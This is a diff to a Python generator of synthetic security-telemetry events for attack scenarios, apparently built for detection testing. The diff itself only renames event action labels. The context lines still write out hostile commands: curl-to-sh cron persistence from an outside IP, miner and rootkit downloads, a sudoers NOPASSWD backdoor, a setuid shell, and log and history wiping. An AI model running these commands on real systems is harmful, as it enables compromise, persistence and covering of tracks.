@@ -79,10 +79,10 @@ class Story:
         return p
 
     def exit(self, p: Proc, code: int = 0) -> None:
-        self._doc(p, "process", "end", "exit", process={"exit_code": code})
+        self._doc(p, "process", "end", "end", process={"exit_code": code})
 
     def file(self, p: Proc, action: str, path: str, mode: str | None = None, old: str | None = None) -> None:
-        etype = {"open": "access", "create": "creation", "unlink": "deletion"}.get(action, "change")
+        etype = {"open": "access", "creation": "creation", "deletion": "deletion"}.get(action, "change")
         name = path.rsplit("/", 1)[-1]
         f: dict[str, Any] = {"path": path, "name": name, "directory": path.rsplit("/", 1)[0] or "/"}
         if "." in name[1:]:
@@ -94,7 +94,7 @@ class Story:
         self._doc(p, "file", etype, action, file=f)
 
     def connect(self, p: Proc, ip: str, port: int) -> None:
-        self._doc(p, "network", "connection", "connect",
+        self._doc(p, "network", "connection", "connection_attempted",
                   source={"ip": self.h.ip, "port": 40000 + len(self.events)}, destination={"ip": ip, "port": port},
                   network={"transport": "tcp", "type": "ipv6" if ":" in ip else "ipv4", "direction": "egress"})
 
@@ -145,11 +145,11 @@ def copied_shell_chain(s: Story) -> None:
     it, and deletes itself."""
     shell = s.login("0", "root")
     mk = s.exec(shell, ["mktemp", "-d"], "/usr/bin/mktemp")
-    s.file(mk, "create", "/tmp/tmp.Qx81Tb")
+    s.file(mk, "creation", "/tmp/tmp.Qx81Tb")
     s.exit(mk)
     cp = s.exec(shell, ["cp", "/bin/bash", "/tmp/tmp.Qx81Tb/kworkerd"], "/usr/bin/cp")
     s.file(cp, "open", "/usr/bin/bash")
-    s.file(cp, "create", "/tmp/tmp.Qx81Tb/kworkerd")
+    s.file(cp, "creation", "/tmp/tmp.Qx81Tb/kworkerd")
     s.exit(cp)
     ch = s.exec(shell, ["chmod", "+x", "/tmp/tmp.Qx81Tb/kworkerd"], "/usr/bin/chmod")
     s.file(ch, "chmod", "/tmp/tmp.Qx81Tb/kworkerd", mode="755")
@@ -162,7 +162,7 @@ def copied_shell_chain(s: Story) -> None:
     s.connect(x, "203.0.113.45", 443)
     s.exit(x)
     rm = s.exec(shell, ["rm", "-rf", "/tmp/tmp.Qx81Tb"], "/usr/bin/rm")
-    s.file(rm, "unlink", "/tmp/tmp.Qx81Tb/kworkerd")
+    s.file(rm, "deletion", "/tmp/tmp.Qx81Tb/kworkerd")
     s.exit(rm)
 
 
@@ -173,7 +173,7 @@ def miner_dropper(s: Story) -> None:
                          "/var/tmp/.x/kswapd0 -B -o stratum+tcp://pool.minexmr.example:4444 --donate-level=1")
     w = s.exec(sh, ["wget", "-q", "-O", "/var/tmp/.x/kswapd0", "http://203.0.113.45/k"], "/usr/bin/wget")
     s.connect(w, "203.0.113.45", 80)
-    s.file(w, "create", "/var/tmp/.x/kswapd0")
+    s.file(w, "creation", "/var/tmp/.x/kswapd0")
     s.exit(w)
     ch = s.exec(sh, ["chmod", "+x", "/var/tmp/.x/kswapd0"], "/usr/bin/chmod")
     s.file(ch, "chmod", "/var/tmp/.x/kswapd0", mode="0755")
@@ -183,7 +183,7 @@ def miner_dropper(s: Story) -> None:
     s.connect(m, "45.9.148.99", 4444)
     s.wait(3000)
     cron = sh_c(s, sh, "echo '*/5 * * * * root curl -fsSL http://203.0.113.45/k.sh | sh' > /etc/cron.d/kswapd")
-    s.file(cron, "create", "/etc/cron.d/kswapd")
+    s.file(cron, "creation", "/etc/cron.d/kswapd")
     s.exit(cron)
     s.exit(sh)
     # five minutes later cron runs the planted job
@@ -200,7 +200,7 @@ def backdoor_account(s: Story) -> None:
         s.file(ua, "rename", f, old=f + "+")
     s.exit(ua)
     s.wait(20_000)
-    s.file(shell, "create", "/etc/sudoers.d/sysadm")  # echo '... NOPASSWD:ALL' > /etc/sudoers.d/sysadm
+    s.file(shell, "creation", "/etc/sudoers.d/sysadm")  # echo '... NOPASSWD:ALL' > /etc/sudoers.d/sysadm
     s.file(shell, "open_write", "/etc/passwd")  # echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd
 
 
@@ -210,11 +210,11 @@ def persistence_kit(s: Story) -> None:
     s.file(shell, "open_write", "/root/.ssh/authorized_keys")
     s.file(shell, "open_write", "/root/.bashrc")
     tee = s.exec(shell, ["tee", "/etc/systemd/system/dbus-broker-helper.service"], "/usr/bin/tee")
-    s.file(tee, "create", "/etc/systemd/system/dbus-broker-helper.service")
+    s.file(tee, "creation", "/etc/systemd/system/dbus-broker-helper.service")
     s.exit(tee)
-    s.file(shell, "create", "/etc/update-motd.d/99-sysinfo")
-    s.file(shell, "create", "/etc/apt/apt.conf.d/01periodic-update")
-    s.file(shell, "create", "/etc/udev/rules.d/75-net-helper.rules")
+    s.file(shell, "creation", "/etc/update-motd.d/99-sysinfo")
+    s.file(shell, "creation", "/etc/apt/apt.conf.d/01periodic-update")
+    s.file(shell, "creation", "/etc/udev/rules.d/75-net-helper.rules")
 
 
 def rootkit(s: Story) -> None:
@@ -222,19 +222,19 @@ def rootkit(s: Story) -> None:
     shell = s.login("0", "root")
     c = s.exec(shell, ["curl", "-so", "/tmp/.r/nfs_acl.ko", "http://198.51.100.23/m"], "/usr/bin/curl")
     s.connect(c, "198.51.100.23", 80)
-    s.file(c, "create", "/tmp/.r/nfs_acl.ko")
+    s.file(c, "creation", "/tmp/.r/nfs_acl.ko")
     s.exit(c)
     ins = s.exec(shell, ["insmod", "/tmp/.r/nfs_acl.ko"], "/usr/bin/kmod")  # insmod -> kmod (resolved)
-    s._doc(ins, "driver", "start", "finit_module", file={"path": "/tmp/.r/nfs_acl.ko", "name": "nfs_acl.ko"})
+    s._doc(ins, "driver", "start", "load_module", file={"path": "/tmp/.r/nfs_acl.ko", "name": "nfs_acl.ko"})
     s.exit(ins)
-    s.file(shell, "create", "/etc/ld.so.preload")
+    s.file(shell, "creation", "/etc/ld.so.preload")
 
 
 def setuid_shell(s: Story) -> None:
     """A setuid-root copy of bash in /dev/shm, used later as a way back to root."""
     shell = s.login("0", "root")
     cp = s.exec(shell, ["cp", "/bin/bash", "/dev/shm/.b"], "/usr/bin/cp")
-    s.file(cp, "create", "/dev/shm/.b")
+    s.file(cp, "creation", "/dev/shm/.b")
     s.exit(cp)
     ch = s.exec(shell, ["chmod", "4755", "/dev/shm/.b"], "/usr/bin/chmod")
     s.file(ch, "chmod", "/dev/shm/.b", mode="4755")
@@ -284,10 +284,10 @@ def anti_forensics(s: Story) -> None:
     """Logs, history and host protections wiped."""
     shell = s.login("0", "root")
     sh = s.exec(shell, ["shred", "-u", "/var/log/auth.log"], "/usr/bin/shred")
-    s.file(sh, "unlink", "/var/log/auth.log")
+    s.file(sh, "deletion", "/var/log/auth.log")
     s.exit(sh)
     ln = s.exec(shell, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln")
-    s.file(ln, "unlink", "/root/.bash_history")
+    s.file(ln, "deletion", "/root/.bash_history")
     s.exit(ln)
     ipt = s.exec(shell, ["iptables", "-F"], "/usr/sbin/xtables-nft-multi")  # iptables via alternatives
     s.exit(ipt)
@@ -330,7 +330,7 @@ def local_root_exploits(s: Story) -> None:
     su = s.exec(user, ["sudo", "-u#-1", "/bin/bash"], "/usr/bin/sudo")
     s.exit(su, 1)
     exp = s.exec(user, ["/tmp/cve"], "/tmp/cve")
-    s._doc(exp, "process", "change", "setuid", user={"target": {"id": "0"}, "effective": {"id": "0"}})
+    s._doc(exp, "process", "change", "uid_change", user={"target": {"id": "0"}, "effective": {"id": "0"}})
     sshd = s.daemon("sshd")
     s._doc(exp, "process", "access", "ptrace", target={"process": {"pid": sshd.pid, "name": "sshd"}})
     s.file(exp, "open", f"/proc/{sshd.pid}/mem")
@@ -367,10 +367,10 @@ def benign_near_misses(events: list[dict], rng: random.Random) -> list[dict]:
         t = ev["_ts_us"]
         if ev["event"]["action"] == "exec" and proc.get("name") == "sshd" and proc.get("args", [""])[0].startswith("sshd:"):
             extra.append(_like(ev, t + 30_000, "file", "access", "open", file={"path": "/etc/shadow", "name": "shadow", "directory": "/etc"}))
-        elif ev["event"]["action"] == "create" and ev["file"]["path"].startswith("/tmp/") and rng.random() < 0.5:
+        elif ev["event"]["action"] == "creation" and ev["file"]["path"].startswith("/tmp/") and rng.random() < 0.5:
             mode = rng.choice(["600", "644", "0600"])
             extra.append(_like(ev, t + 1_000, "file", "change", "chmod", file=dict(ev["file"], mode=mode)))
-        elif ev["event"]["action"] == "create" and ev["file"]["path"].startswith("/srv/") and rng.random() < 0.3:
+        elif ev["event"]["action"] == "creation" and ev["file"]["path"].startswith("/srv/") and rng.random() < 0.3:
             extra.append(_like(ev, t + 1_000, "file", "change", "chmod", file=dict(ev["file"], mode="755")))
     return extra
 
